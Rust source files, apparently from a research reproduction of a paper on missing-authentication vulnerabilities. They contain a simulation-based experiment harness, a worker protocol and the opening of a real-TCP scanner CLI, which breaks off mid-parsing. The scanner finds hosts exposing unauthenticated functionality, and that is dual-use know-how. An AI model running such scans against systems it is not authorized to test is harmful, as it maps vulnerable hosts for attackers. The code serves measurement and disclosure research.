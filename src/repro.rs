//! The experiment-regeneration harness: one entry point per table and
//! figure of the paper. Used by the `repro` binary, the examples and the
//! integration tests.

use nokeys_analysis as analysis;
use nokeys_defend::VendorFinding;
use nokeys_honeypot::{run_study, StudyConfig, StudyResult};
use nokeys_netsim::observer_clock::wire_observer_clock;
use nokeys_netsim::{FaultLane, SimTransport, Universe, UniverseConfig};
use nokeys_scanner::observer::LongevityStudy;
use nokeys_scanner::prelude::{
    CheckpointPolicy, EngineConfig, JobEngine, JobSpec, ObserveSpec, ScanSpec, WorkerLaunch,
};
use nokeys_scanner::{ScanReport, Telemetry};
use std::path::PathBuf;
use std::sync::Arc;

use crate::worker::{default_worker_bin, TransportSpec};

/// Scale of a reproduction run.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Scale {
    /// Full-shape reproduction: MAVs at paper scale (4,221 hosts),
    /// 3-hourly longevity rescans. Takes tens of seconds in release
    /// mode.
    Full,
    /// Small universe and daily rescans — integration-test speed.
    Quick,
}

/// Scan-checkpoint settings for the harness.
#[derive(Debug, Clone)]
pub struct CheckpointOptions {
    /// File the scan checkpoint is written to.
    pub path: PathBuf,
    /// Batches between checkpoint writes.
    pub every: u64,
    /// Resume from an existing checkpoint at `path` instead of starting
    /// over (starts fresh if the file does not exist yet).
    pub resume: bool,
}

/// The harness: lazily runs and caches the expensive studies.
pub struct Repro {
    pub seed: u64,
    pub scale: Scale,
    universe_config: UniverseConfig,
    telemetry: Telemetry,
    fault_rate: f64,
    retries: u32,
    shards: usize,
    workers: usize,
    worker_bin: Option<PathBuf>,
    worker_args: Vec<String>,
    checkpoint: Option<CheckpointOptions>,
    scan: Option<(SimTransport, ScanReport)>,
    longevity: Option<LongevityStudy>,
    study: Option<StudyResult>,
    defenders: Option<(Vec<VendorFinding>, Vec<VendorFinding>)>,
}

impl Repro {
    pub fn new(seed: u64, scale: Scale) -> Self {
        let universe_config = match scale {
            Scale::Full => UniverseConfig::repro(seed),
            Scale::Quick => UniverseConfig::tiny(seed),
        };
        Repro {
            seed,
            scale,
            universe_config,
            telemetry: Telemetry::new(),
            fault_rate: 0.0,
            retries: 3,
            shards: 1,
            workers: 0,
            worker_bin: None,
            worker_args: Vec::new(),
            checkpoint: None,
            scan: None,
            longevity: None,
            study: None,
            defenders: None,
        }
    }

    /// Inject transient faults (SYN loss + connect timeouts) into the
    /// simulated transport at this per-attempt probability. The fault
    /// schedule is keyed per (endpoint, lane, attempt ordinal), so the
    /// report stays byte-identical at any parallelism.
    pub fn with_fault_rate(mut self, rate: f64) -> Self {
        self.fault_rate = rate;
        self
    }

    /// Per-operation transport attempt budget (1 disables retrying).
    pub fn with_retries(mut self, attempts: u32) -> Self {
        self.retries = attempts.max(1);
        self
    }

    /// Split the scan across this many shard workers with
    /// work-stealing. Like parallelism and fault injection, sharding
    /// never changes the report: it is byte-identical at any count.
    pub fn with_shards(mut self, shards: usize) -> Self {
        self.shards = shards.max(1);
        self
    }

    /// Run the scan through this many external `nokeys-worker`
    /// processes instead of in-process shard tasks (0, the default,
    /// keeps the scan in-process). Each worker regenerates the same
    /// universe from its config, so the report — like sharding — is
    /// byte-identical at any worker count.
    pub fn with_workers(mut self, workers: usize) -> Self {
        self.workers = workers;
        self
    }

    /// Explicit path of the worker binary (defaults to the
    /// `nokeys-worker` next to the current executable). Tests pass
    /// `env!("CARGO_BIN_EXE_nokeys-worker")` here.
    pub fn with_worker_bin(mut self, bin: impl Into<PathBuf>) -> Self {
        self.worker_bin = Some(bin.into());
        self
    }

    /// Extra argv for every spawned worker — the crash-injection flags
    /// of the recovery tests.
    pub fn with_worker_args<I, S>(mut self, args: I) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        self.worker_args = args.into_iter().map(Into::into).collect();
        self
    }

    /// Persist (and optionally resume from) a scan checkpoint.
    pub fn with_checkpoint(mut self, options: CheckpointOptions) -> Self {
        self.checkpoint = Some(options);
        self
    }

    /// The universe configuration in use.
    pub fn universe_config(&self) -> &UniverseConfig {
        &self.universe_config
    }

    /// The telemetry registry every study of this harness records into.
    pub fn telemetry(&self) -> &Telemetry {
        &self.telemetry
    }

    /// Run (or reuse) the Internet-wide scan.
    pub async fn scan(&mut self) -> &(SimTransport, ScanReport) {
        if self.scan.is_none() {
            let universe = Arc::new(Universe::generate(self.universe_config.clone()));
            let mut transport = SimTransport::new(universe);
            if self.fault_rate > 0.0 {
                // Bridge injected faults into the telemetry registry so a
                // snapshot can reconcile them against the retry counters.
                let probe = self.telemetry.counter("fault.probe.injected");
                let connect = self.telemetry.counter("fault.connect.injected");
                transport = transport
                    .with_fault_injection(self.fault_rate)
                    .with_fault_observer(move |lane| match lane {
                        FaultLane::Probe => probe.incr(),
                        FaultLane::Connect => connect.incr(),
                    });
            }
            let client = nokeys_http::Client::new(transport.clone());
            // Faults or not, the per-(endpoint, lane, ordinal) fault
            // schedule and the retry layer keep the concurrent pipeline's
            // report byte-identical to the sequential one. The harness
            // submits through the job engine — the same serializable
            // spec path as the CLIs and `nokeys-scand` — and folds the
            // job's telemetry back into its own registry, so snapshots
            // are indistinguishable from driving the pipeline directly.
            let mut scan = ScanSpec::new(vec![self.universe_config.space]);
            scan.parallelism = Some(8);
            scan.shards = Some(self.shards);
            scan.retries = Some(self.retries);
            if self.workers > 0 {
                scan.workers = Some(self.workers);
            }
            let mut spec = JobSpec::scan("repro", scan);
            spec.checkpoint = match &self.checkpoint {
                // The engine resumes when asked to and a checkpoint
                // exists; otherwise a fresh (checkpointed) run.
                Some(c) => CheckpointPolicy::Explicit {
                    path: c.path.clone(),
                    every: c.every,
                    resume: c.resume,
                },
                None => CheckpointPolicy::Disabled,
            };
            let engine = if self.workers > 0 {
                // Process tier: each worker regenerates this universe
                // from its config and draws from the same fault
                // schedule (the `with_fault_injection` default seed),
                // so worker segments are byte-identical to in-process
                // shard segments.
                let worker_transport = TransportSpec::Sim {
                    universe: self.universe_config.clone(),
                    fault_rate: self.fault_rate,
                    fault_seed: nokeys_netsim::FaultPlan::disabled().seed(),
                };
                let bin = self
                    .worker_bin
                    .clone()
                    .unwrap_or_else(default_worker_bin);
                let launch = WorkerLaunch::new(bin, worker_transport.to_value())
                    .with_args(self.worker_args.clone());
                JobEngine::with_config(
                    client,
                    EngineConfig {
                        worker_launch: Some(launch),
                        ..EngineConfig::default()
                    },
                )
            } else {
                JobEngine::new(client)
            };
            let outcome = engine
                .submit(spec)
                .wait()
                .await
                .unwrap_or_else(|e| panic!("scan pipeline failed: {e}"));
            self.telemetry.absorb(outcome.telemetry());
            let report = outcome.report().expect("scan jobs report").clone();
            self.scan = Some((transport, report));
        }
        self.scan.as_ref().expect("just initialized")
    }

    /// Run (or reuse) the four-week longevity observation.
    pub async fn longevity(&mut self) -> &LongevityStudy {
        if self.longevity.is_none() {
            let interval = match self.scale {
                Scale::Full => 3 * 3600,
                Scale::Quick => 86_400,
            };
            let (transport, report) = self.scan().await;
            let transport = transport.clone();
            let vulnerable: Vec<_> = report.vulnerable_findings().cloned().collect();
            let client = nokeys_http::Client::new(transport.clone());
            // A one-shot observe job on an engine wired to the simulated
            // clock — the recurring flavour of the same job is what
            // `nokeys-scand` schedules (EXPERIMENTS.md).
            let engine =
                JobEngine::new(client).with_clock(wire_observer_clock(&transport));
            let spec = JobSpec::observe(
                "repro",
                ObserveSpec::new(vulnerable, interval, 28 * 86_400),
            );
            let outcome = engine
                .submit(spec)
                .wait()
                .await
                .unwrap_or_else(|e| panic!("longevity observation failed: {e}"));
            self.telemetry.absorb(outcome.telemetry());
            let study = outcome.study().expect("observe jobs study").clone();
            self.longevity = Some(study);
        }
        self.longevity.as_ref().expect("just initialized")
    }

    /// Run (or reuse) the honeypot study.
    pub async fn study(&mut self) -> &StudyResult {
        if self.study.is_none() {
            let config = StudyConfig {
                seed: self.seed,
                background_noise: self.scale == Scale::Full,
            };
            self.study = Some(run_study(&config).await);
        }
        self.study.as_ref().expect("just initialized")
    }

    /// Run (or reuse) both commercial-scanner models against a fresh
    /// honeypot fleet.
    pub async fn defenders(&mut self) -> &(Vec<VendorFinding>, Vec<VendorFinding>) {
        if self.defenders.is_none() {
            let fleet = nokeys_honeypot::Fleet::deploy();
            let s1 = nokeys_defend::scanner1().scan_fleet(&fleet).await;
            let s2 = nokeys_defend::scanner2().scan_fleet(&fleet).await;
            self.defenders = Some((s1, s2));
        }
        self.defenders.as_ref().expect("just initialized")
    }

    /// Regenerate one experiment by id; returns the rendered artifact.
    pub async fn run(&mut self, id: &str) -> Result<String, String> {
        let out = match id {
            "table1" => analysis::table1::build().render(),
            "table2" => {
                let divisor = self.universe_config.background_divisor;
                let (_, report) = self.scan().await;
                analysis::table2::build(report, divisor).render()
            }
            "table3" => {
                let (b, m) = (
                    self.universe_config.benign_divisor,
                    self.universe_config.mav_divisor,
                );
                let (_, report) = self.scan().await;
                analysis::table3::build(report, b, m).render()
            }
            "table4" => {
                let (transport, report) = self.scan().await;
                analysis::table4::build(report, transport.universe().geo(), 5).render()
            }
            "fig1" => {
                let (_, report) = self.scan().await;
                analysis::fig1::build(report).render()
            }
            "fig2" => analysis::fig2::build(self.longevity().await).render(),
            "table5" => analysis::table5::build(self.study().await).render(),
            "table6" => analysis::table6::build(self.study().await).render(),
            "table7" => analysis::table7::build(self.study().await).render(),
            "table8" => analysis::table8::build(self.study().await).render(),
            "fig3" => analysis::fig3::build(self.study().await).render(),
            "fig4" => analysis::fig4::build(self.study().await).render(),
            "table9" => {
                self.scan().await;
                self.study().await;
                self.defenders().await;
                let (_, report) = self.scan.as_ref().expect("scan cached");
                let study = self.study.as_ref().expect("study cached");
                let (s1, s2) = self.defenders.as_ref().expect("defenders cached");
                let (b, m) = (
                    self.universe_config.benign_divisor,
                    self.universe_config.mav_divisor,
                );
                analysis::table9::build(report, study, s1, s2, b, m).render()
            }
            "table10" => analysis::table10::build().render(),
            "rq2" => {
                let (_, report) = self.scan().await;
                analysis::rq2::build(report).render()
            }
            "longevity" => analysis::longevity_stats::build(self.longevity().await).render(),
            "cases" => analysis::case_studies::build(self.study().await).render(),
            "restores" => analysis::restores::build(self.study().await).render(),
            "race" => {
                analysis::race_table::build(&nokeys_defend::scanner2(), self.study().await).render()
            }
            "scanmodel" => {
                let (_, report) = self.scan().await;
                analysis::scan_model::build(report).render()
            }
            "disclosure" => {
                let (transport, report) = self.scan().await;
                let geo = transport.universe().geo().clone();
                let findings: Vec<_> = report.vulnerable_findings().cloned().collect();
                let plan = nokeys_scanner::disclosure::plan_notifications(
                    transport,
                    &findings,
                    move |ip| {
                        geo.lookup(ip)
                            .filter(|rec| rec.asys.hosting)
                            .map(|rec| rec.asys.name.to_string())
                    },
                )
                .await;
                nokeys_scanner::disclosure::render(&plan)
            }
            "ct" => {
                let (transport, _) = self.scan().await;
                let transport = transport.clone();
                let client = nokeys_http::Client::new(transport.clone());
                let delay_secs = 3600;
                let entries: Vec<nokeys_scanner::ct::DomainTarget> = transport
                    .universe()
                    .ct_log()
                    .into_iter()
                    .filter(|e| e.logged_at >= nokeys_netsim::SimTime::SCAN_START)
                    .map(|e| nokeys_scanner::ct::DomainTarget {
                        domain: e.domain,
                        ip: e.ip,
                        logged_at_secs: e.logged_at.as_secs(),
                    })
                    .collect();
                let t = transport.clone();
                let findings = nokeys_scanner::ct::ct_scan(&client, &entries, delay_secs, |s| {
                    t.set_time(nokeys_netsim::SimTime(s))
                })
                .await;
                analysis::ct_compare::build(transport.universe(), &findings, delay_secs).render()
            }
            _ => return Err(format!("unknown experiment id '{id}'")),
        };
        Ok(out)
    }

    /// All experiment ids, paper order.
    pub fn all_ids() -> &'static [&'static str] {
        &[
            "table1",
            "table2",
            "table3",
            "table4",
            "fig1",
            "fig2",
            "table5",
            "table6",
            "table7",
            "table8",
            "fig3",
            "fig4",
            "table9",
            "table10",
            "rq2",
            "longevity",
            "scanmodel",
            "disclosure",
            "ct",
            "cases",
            "race",
            "restores",
        ]
    }
}
