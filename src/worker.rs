//! Support code for the `nokeys-worker` binary: the transport spec
//! that crosses the coordinator→worker pipe, worker-binary discovery,
//! and the worker's command loop.
//!
//! The scanner core deliberately cannot name concrete transports (they
//! live above it), so [`WorkerLaunch`](nokeys_scanner::WorkerLaunch)
//! carries the transport description as an opaque JSON value. This
//! module defines the concrete encoding both ends of this crate agree
//! on: [`TransportSpec`].
//!
//! Determinism: a worker rebuilds its pipeline from the same
//! [`ScanSpec`] the coordinator holds, and — for the simulated
//! transport — the same universe seed and the same per-(endpoint,
//! lane, attempt) fault schedule, so every batch it scans produces the
//! bytes the coordinator's own in-process workers would have produced.

use nokeys_http::{Client, Transport};
use nokeys_netsim::UniverseConfig;
use nokeys_scanner::jobs::process::WorkerSpec;
use nokeys_scanner::jobs::wire::{WorkerCommand, WorkerReply};
use nokeys_scanner::shard::{scan_segment, total_batches};
use nokeys_scanner::Telemetry;
use std::io::Write;
use std::path::PathBuf;
use std::sync::mpsc::{Receiver, TryRecvError};

/// Concrete transport description carried opaquely through
/// [`WorkerLaunch::transport`](nokeys_scanner::WorkerLaunch). Encoded
/// by hand (the facade crate has no serde derive) as a small tagged
/// JSON object.
#[derive(Debug, Clone, PartialEq)]
pub enum TransportSpec {
    /// Real sockets, with the CLI's fault-injection wrapper.
    Tcp { fault_rate: f64, fault_seed: u64 },
    /// The simulated universe, regenerated from its config. The fault
    /// schedule is keyed per (endpoint, lane, attempt ordinal), so a
    /// worker's draws match the in-process engine's exactly.
    Sim {
        universe: UniverseConfig,
        fault_rate: f64,
        fault_seed: u64,
    },
}

impl TransportSpec {
    /// Encode as the JSON value handed to `WorkerLaunch`.
    pub fn to_value(&self) -> serde_json::Value {
        match self {
            TransportSpec::Tcp {
                fault_rate,
                fault_seed,
            } => serde_json::json!({
                "kind": "tcp",
                "fault_rate": fault_rate,
                "fault_seed": fault_seed,
            }),
            TransportSpec::Sim {
                universe,
                fault_rate,
                fault_seed,
            } => serde_json::json!({
                "kind": "sim",
                "universe": serde_json::to_value(universe).expect("universe serializes"),
                "fault_rate": fault_rate,
                "fault_seed": fault_seed,
            }),
        }
    }

    /// Decode a value produced by [`to_value`](Self::to_value).
    pub fn from_value(value: &serde_json::Value) -> Result<Self, String> {
        let kind = value
            .get("kind")
            .and_then(|k| k.as_str())
            .ok_or("transport spec has no kind")?;
        let fault_rate = value
            .get("fault_rate")
            .and_then(|v| v.as_f64())
            .unwrap_or(0.0);
        let fault_seed = value
            .get("fault_seed")
            .and_then(|v| v.as_u64())
            .unwrap_or_else(|| nokeys_netsim::FaultPlan::disabled().seed());
        match kind {
            "tcp" => Ok(TransportSpec::Tcp {
                fault_rate,
                fault_seed,
            }),
            "sim" => {
                let universe = value.get("universe").ok_or("sim transport has no universe")?;
                let universe: UniverseConfig = serde_json::from_value(universe.clone())
                    .map_err(|e| format!("bad universe config: {e}"))?;
                Ok(TransportSpec::Sim {
                    universe,
                    fault_rate,
                    fault_seed,
                })
            }
            other => Err(format!("unknown transport kind '{other}'")),
        }
    }
}

/// Path of the `nokeys-worker` binary shipped next to the current
/// executable. Test binaries live one directory deeper (`deps/`), so
/// fall back to the parent; callers with a known location (tests using
/// `CARGO_BIN_EXE_nokeys-worker`) should pass it explicitly instead.
pub fn default_worker_bin() -> PathBuf {
    let name = format!("nokeys-worker{}", std::env::consts::EXE_SUFFIX);
    let Ok(exe) = std::env::current_exe() else {
        return PathBuf::from(name);
    };
    if let Some(dir) = exe.parent() {
        let sibling = dir.join(&name);
        if sibling.exists() {
            return sibling;
        }
        if let Some(parent) = dir.parent() {
            let above = parent.join(&name);
            if above.exists() {
                return above;
            }
        }
    }
    PathBuf::from(name)
}

/// Crash-injection hook for fault tests: after `after` sent segments,
/// if the token file does not exist yet, create it and exit(1). The
/// respawned worker sees the token and runs normally, so each test run
/// crashes exactly once, deterministically.
#[derive(Debug, Clone)]
pub struct CrashHook {
    pub after: u64,
    pub token: PathBuf,
}

impl CrashHook {
    fn fires(&self, sent_segments: u64) -> bool {
        if sent_segments != self.after || self.token.exists() {
            return false;
        }
        let _ = std::fs::write(&self.token, b"crashed once\n");
        true
    }
}

fn emit(reply: &WorkerReply) {
    let mut out = std::io::stdout().lock();
    let _ = writeln!(out, "{}", reply.to_line());
    let _ = out.flush();
}

/// The worker command loop: answer the spec with `Hello`, then scan
/// leases chunk by chunk, checking the command channel between chunks
/// for revokes and shutdown. `fault_telemetry` is the registry the
/// transport's fault observer (if any) increments; its per-chunk
/// deltas are folded into each outgoing segment so the merged job
/// telemetry carries the same fault counters an in-process run would.
///
/// Returns the process exit code.
pub fn run_worker<T>(
    client: &Client<T>,
    spec: &WorkerSpec,
    fault_telemetry: &Telemetry,
    commands: &Receiver<WorkerCommand>,
    crash: Option<&CrashHook>,
) -> i32
where
    T: Transport + Clone + 'static,
{
    let config = spec.scan.to_builder().build();
    let chunk = spec.chunk.max(1);
    emit(&WorkerReply::Hello {
        total_batches: total_batches(&config),
    });
    let runtime = match tokio::runtime::Builder::new_current_thread()
        .enable_time()
        .build()
    {
        Ok(rt) => rt,
        Err(e) => {
            emit(&WorkerReply::Error {
                message: format!("runtime: {e}"),
            });
            return 1;
        }
    };

    let mut sent_segments = 0u64;
    loop {
        // Idle: block until the coordinator says something (EOF on the
        // pipe means the coordinator is gone — exit quietly).
        let cmd = match commands.recv() {
            Ok(cmd) => cmd,
            Err(_) => return 0,
        };
        let (lease, start, end) = match cmd {
            WorkerCommand::Shutdown => return 0,
            // A revoke for a lease we no longer hold raced our Released.
            WorkerCommand::Revoke { .. } => continue,
            WorkerCommand::Lease { lease, start, end } => (lease, start, end),
        };
        let mut cursor = start;
        let mut lease_end = end;
        'lease: while cursor < lease_end {
            // Drain commands between chunks without blocking.
            loop {
                match commands.try_recv() {
                    Ok(WorkerCommand::Revoke { lease: l, at }) if l == lease => {
                        // Clamp: we may already be past the requested
                        // cut; Released reports where we really stop.
                        lease_end = lease_end.min(at.max(cursor));
                    }
                    Ok(WorkerCommand::Revoke { .. }) => {}
                    Ok(WorkerCommand::Lease { .. }) => {
                        emit(&WorkerReply::Error {
                            message: "lease while one is active".into(),
                        });
                        return 1;
                    }
                    Ok(WorkerCommand::Shutdown) => {
                        emit(&WorkerReply::Released { lease, end: cursor });
                        return 0;
                    }
                    Err(TryRecvError::Empty) => break,
                    Err(TryRecvError::Disconnected) => return 0,
                }
            }
            if cursor >= lease_end {
                break 'lease;
            }
            let seg_end = (cursor + chunk).min(lease_end);
            let fault_before = fault_telemetry.snapshot();
            let mut segment = runtime.block_on(scan_segment(&config, client, cursor, seg_end));
            let fault_delta = fault_telemetry.snapshot().delta_since(&fault_before);
            // Fold this chunk's injected-fault counters into the
            // segment snapshot: merged job telemetry then matches an
            // in-process run, where the observer feeds one registry.
            let merged = Telemetry::new();
            merged.absorb(&segment.telemetry);
            merged.absorb(&fault_delta);
            segment.telemetry = merged.snapshot();
            emit(&WorkerReply::Segment {
                lease,
                segment: Box::new(segment),
            });
            cursor = seg_end;
            sent_segments += 1;
            if crash.is_some_and(|c| c.fires(sent_segments)) {
                return 1;
            }
            emit(&WorkerReply::Heartbeat { lease, cursor });
        }
        emit(&WorkerReply::Released { lease, end: cursor });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tcp_spec_round_trips() {
        let spec = TransportSpec::Tcp {
            fault_rate: 0.25,
            fault_seed: 0x6e6f_6b65_7973,
        };
        let back = TransportSpec::from_value(&spec.to_value()).expect("round trips");
        assert_eq!(back, spec);
    }

    #[test]
    fn sim_spec_round_trips_with_universe() {
        let spec = TransportSpec::Sim {
            universe: UniverseConfig::tiny(42),
            fault_rate: 0.1,
            fault_seed: 0xfa17_5eed,
        };
        let value = spec.to_value();
        assert_eq!(value["kind"], "sim");
        let back = TransportSpec::from_value(&value).expect("round trips");
        match back {
            TransportSpec::Sim {
                universe,
                fault_rate,
                fault_seed,
            } => {
                assert_eq!(universe.seed, 42);
                assert_eq!(fault_rate, 0.1);
                assert_eq!(fault_seed, 0xfa17_5eed);
            }
            other => panic!("wrong spec: {other:?}"),
        }
    }

    #[test]
    fn missing_fault_seed_falls_back_to_the_sim_default() {
        let value = serde_json::json!({"kind": "tcp", "fault_rate": 0.5});
        match TransportSpec::from_value(&value).expect("parses") {
            TransportSpec::Tcp { fault_seed, .. } => {
                assert_eq!(fault_seed, nokeys_netsim::FaultPlan::disabled().seed());
            }
            other => panic!("wrong spec: {other:?}"),
        }
    }

    #[test]
    fn unknown_kind_is_rejected() {
        let value = serde_json::json!({"kind": "carrier-pigeon"});
        assert!(TransportSpec::from_value(&value).is_err());
    }
}
