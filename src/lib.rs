//! `nokeys` — reproduction of *No Keys to the Kingdom Required:
//! A Comprehensive Investigation of Missing Authentication
//! Vulnerabilities in the Wild* (IMC 2022).
//!
//! This facade crate re-exports the workspace members and hosts the
//! experiment-regeneration harness used by the `repro` binary, the
//! examples and the integration tests.

pub use nokeys_analysis as analysis;
pub use nokeys_apps as apps;
pub use nokeys_attack as attack;
pub use nokeys_defend as defend;
pub use nokeys_honeypot as honeypot;
pub use nokeys_http as http;
pub use nokeys_netsim as netsim;
pub use nokeys_scanner as scanner;

pub mod repro;
pub mod worker;
