//! `repro` — regenerate any table or figure of the paper.
//!
//! ```text
//! repro <id>... [--seed N] [--quick] [--out DIR] [--metrics-out FILE]
//!               [--fault-rate P] [--retries N] [--shards N] [--workers N]
//!               [--checkpoint FILE] [--resume] [--checkpoint-every N]
//! repro all [--seed N] [--quick]
//! repro list
//! ```
//!
//! `--quick` uses the small test universe and daily longevity rescans;
//! without it the harness runs at full reproduction scale (4,221
//! vulnerable hosts, 3-hourly rescans) — use a release build.
//! `--metrics-out FILE` writes the harness-wide telemetry snapshot
//! (deterministic JSON) after all experiments finish.
//! `--fault-rate P` injects transient faults (SYN loss, connect
//! timeouts) into the simulated transport at per-attempt probability
//! `P`; the schedule is keyed per (endpoint, lane, attempt ordinal), so
//! the report is still byte-identical run to run. `--retries N` sets
//! the per-operation transport attempt budget (default 3; 1 disables
//! retrying).
//!
//! `--shards N` splits the scan's batch sequence across N worker tasks
//! with work-stealing (default: the number of CPUs). Like parallelism
//! and fault injection, sharding never changes the output: every table
//! and figure is byte-identical at any N.
//!
//! `--workers N` runs the scan through N external `nokeys-worker`
//! processes (the process tier) instead of in-process shard tasks.
//! Workers regenerate the same simulated universe from its config, so
//! the output stays byte-identical to `--shards` at any worker count.
//!
//! `--checkpoint FILE` makes the scan crash-safe: a resumable checkpoint
//! is written to `FILE` every `--checkpoint-every N` batches (default
//! 8). With `--resume`, an existing checkpoint at `FILE` is continued
//! instead of restarting the scan — the final report and telemetry are
//! byte-identical to an uninterrupted run.

use nokeys::repro::{CheckpointOptions, Repro, Scale};

fn usage() -> ! {
    eprintln!(
        "usage: repro <id>...|all|list [--seed N] [--quick] [--out DIR] [--metrics-out FILE]\n\
         \x20      [--fault-rate P] [--retries N] [--shards N] [--workers N]\n\
         \x20      [--checkpoint FILE] [--resume] [--checkpoint-every N]"
    );
    eprintln!("experiment ids: {}", Repro::all_ids().join(", "));
    std::process::exit(2);
}

#[tokio::main(flavor = "current_thread")]
async fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    if args.is_empty() {
        usage();
    }

    let mut seed: u64 = 2022;
    let mut scale = Scale::Full;
    let mut out_dir: Option<std::path::PathBuf> = None;
    let mut metrics_out: Option<String> = None;
    let mut fault_rate: f64 = 0.0;
    let mut retries: u32 = 3;
    let mut shards: usize = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(1);
    let mut workers: usize = 0;
    let mut checkpoint: Option<std::path::PathBuf> = None;
    let mut checkpoint_every: u64 = 8;
    let mut resume = false;
    let mut ids: Vec<String> = Vec::new();
    let mut i = 0;
    while i < args.len() {
        match args[i].as_str() {
            "--quick" => scale = Scale::Quick,
            "--resume" => resume = true,
            "--checkpoint" => {
                i += 1;
                checkpoint = Some(args.get(i).map(Into::into).unwrap_or_else(|| usage()));
            }
            "--checkpoint-every" => {
                i += 1;
                checkpoint_every = args
                    .get(i)
                    .and_then(|s| s.parse().ok())
                    .filter(|n| *n > 0)
                    .unwrap_or_else(|| usage());
            }
            "--fault-rate" => {
                i += 1;
                fault_rate = args
                    .get(i)
                    .and_then(|s| s.parse().ok())
                    .filter(|r| (0.0..=1.0).contains(r))
                    .unwrap_or_else(|| usage());
            }
            "--retries" => {
                i += 1;
                retries = args
                    .get(i)
                    .and_then(|s| s.parse().ok())
                    .unwrap_or_else(|| usage());
            }
            "--shards" => {
                i += 1;
                shards = args
                    .get(i)
                    .and_then(|s| s.parse().ok())
                    .filter(|n| *n > 0)
                    .unwrap_or_else(|| usage());
            }
            "--workers" => {
                i += 1;
                workers = args
                    .get(i)
                    .and_then(|s| s.parse().ok())
                    .filter(|n| *n > 0)
                    .unwrap_or_else(|| usage());
            }
            "--out" => {
                i += 1;
                out_dir = Some(args.get(i).map(Into::into).unwrap_or_else(|| usage()));
            }
            "--metrics-out" => {
                i += 1;
                metrics_out = Some(args.get(i).cloned().unwrap_or_else(|| usage()));
            }
            "--seed" => {
                i += 1;
                seed = args
                    .get(i)
                    .and_then(|s| s.parse().ok())
                    .unwrap_or_else(|| usage());
            }
            "list" => {
                for id in Repro::all_ids() {
                    println!("{id}");
                }
                return;
            }
            "all" => ids.extend(Repro::all_ids().iter().map(|s| s.to_string())),
            other if other.starts_with('-') => usage(),
            other => ids.push(other.to_string()),
        }
        i += 1;
    }
    if ids.is_empty() {
        usage();
    }

    if resume && checkpoint.is_none() {
        eprintln!("error: --resume requires --checkpoint FILE");
        usage();
    }

    let mut harness = Repro::new(seed, scale)
        .with_fault_rate(fault_rate)
        .with_retries(retries)
        .with_shards(shards)
        .with_workers(workers);
    if let Some(path) = checkpoint {
        harness = harness.with_checkpoint(CheckpointOptions {
            path,
            every: checkpoint_every,
            resume,
        });
    }
    println!(
        "# nokeys repro — seed {seed}, scale {:?}, universe {}",
        scale,
        harness.universe_config().space
    );
    for id in ids {
        let started = std::time::Instant::now();
        match harness.run(&id).await {
            Ok(rendered) => {
                println!("\n{rendered}");
                println!("[{id} regenerated in {:.1?}]", started.elapsed());
                if let Some(dir) = &out_dir {
                    std::fs::create_dir_all(dir).expect("create output dir");
                    let path = dir.join(format!("{id}.txt"));
                    std::fs::write(&path, &rendered).expect("write artifact");
                }
            }
            Err(e) => {
                eprintln!("error: {e}");
                std::process::exit(2);
            }
        }
    }

    if let Some(path) = metrics_out {
        let snapshot = harness.telemetry().snapshot();
        eprint!("{}", snapshot.render_text());
        std::fs::write(&path, snapshot.to_json_pretty()).unwrap_or_else(|e| {
            eprintln!("error writing {path}: {e}");
            std::process::exit(1);
        });
        eprintln!("metrics written to {path}");
    }
}
