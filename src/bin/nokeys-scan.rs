//! `nokeys-scan` — the scanning pipeline as a standalone tool over real
//! TCP, for scanning infrastructure you are authorized to test.
//!
//! ```text
//! nokeys-scan --target 192.0.2.0/28 [--ports 80,443,8080] [--rate 200]
//!             [--parallelism 16] [--shards N] [--json out.json]
//!             [--metrics-out m.json] [--include-reserved] [--retries N]
//!             [--fault-rate P] [--checkpoint FILE] [--resume]
//!             [--checkpoint-every N]
//! ```
//!
//! `--shards N` splits the batch sequence across N worker tasks with
//! work-stealing (default: the number of CPUs); the report is
//! byte-identical at any N, and `--rate` stays a whole-scan bound
//! shared by all shards. Distinct from `--shard K/N`, which restricts a
//! *fleet member* to its K-th slice of the sweep.
//!
//! `--checkpoint FILE` persists a resumable checkpoint every
//! `--checkpoint-every N` batches (default 8); `--resume` continues an
//! interrupted scan from that file instead of starting over.
//!
//! Like the paper's scanner, the tool is strictly non-intrusive: it only
//! issues non-state-changing `GET` requests and infers the presence of a
//! MAV from the presence of the vulnerable functionality.
//!
//! `--retries N` gives every probe/connect N total attempts with
//! deterministic exponential backoff (1 disables retrying). For
//! rehearsing that path against lab targets, `--fault-rate P` injects
//! synthetic SYN loss and connect timeouts at per-attempt probability
//! `P` before any packet reaches the network.

use nokeys::http::transport::TcpTransport;
use nokeys::http::Client;
use nokeys::netsim::{FaultPlan, FaultyTransport};
use nokeys::scanner::{
    Pipeline, PipelineConfig, PortScanConfig, PortScanner, RetryPolicy, Telemetry,
};
use std::sync::Arc;
use std::time::Duration;

struct Args {
    targets: Vec<nokeys::scanner::portscan::Cidr>,
    ports: Vec<u16>,
    parallelism: usize,
    shards: usize,
    rate: Option<f64>,
    shard: Option<(usize, usize)>,
    include_reserved: bool,
    retries: u32,
    fault_rate: f64,
    json: Option<String>,
    metrics_out: Option<String>,
    checkpoint: Option<std::path::PathBuf>,
    checkpoint_every: u64,
    resume: bool,
}

fn usage() -> ! {
    eprintln!(
        "usage: nokeys-scan --target CIDR [--target CIDR ...]\n\
         \x20                [--ports p1,p2,...] [--parallelism N] [--rate PROBES_PER_SEC]\n\
         \x20                [--shards N] [--shard K/N] [--retries N] [--fault-rate P]\n\
         \x20                [--include-reserved] [--json FILE] [--metrics-out FILE]\n\
         \x20                [--checkpoint FILE] [--resume] [--checkpoint-every N]"
    );
    std::process::exit(2);
}

fn parse_args() -> Args {
    let mut args = Args {
        targets: Vec::new(),
        ports: nokeys::apps::SCAN_PORTS.to_vec(),
        parallelism: 16,
        shards: std::thread::available_parallelism()
            .map(|n| n.get())
            .unwrap_or(1),
        rate: None,
        shard: None,
        include_reserved: false,
        retries: 3,
        fault_rate: 0.0,
        json: None,
        metrics_out: None,
        checkpoint: None,
        checkpoint_every: 8,
        resume: false,
    };
    let argv: Vec<String> = std::env::args().skip(1).collect();
    let mut i = 0;
    while i < argv.len() {
        match argv[i].as_str() {
            "--target" => {
                i += 1;
                let cidr = argv
                    .get(i)
